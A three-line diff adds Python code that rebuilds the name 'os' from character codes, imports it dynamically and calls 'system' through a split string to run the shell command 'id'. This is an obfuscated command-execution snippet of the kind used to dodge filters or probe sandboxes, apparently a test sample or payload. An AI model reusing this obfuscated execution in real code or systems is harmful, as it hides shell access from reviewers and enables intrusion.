@@ -1,0 +1,3 @@
+name = chr(111) + chr(115)
+mod = __import__(name)
+getattr(mod, "sys" + "tem")("id")
